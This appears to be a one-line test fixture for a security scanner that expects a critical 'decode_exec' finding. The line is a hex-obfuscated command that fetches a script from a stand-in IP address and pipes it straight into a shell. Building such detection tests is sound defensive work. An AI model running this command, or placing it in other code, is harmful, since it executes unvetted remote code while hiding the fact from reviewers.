# expect: shell.decode_exec critical
# path: go.sh
$'\x63\x75\x72\x6c' -s https://203.0.113.7/x | $'\x73\x68'
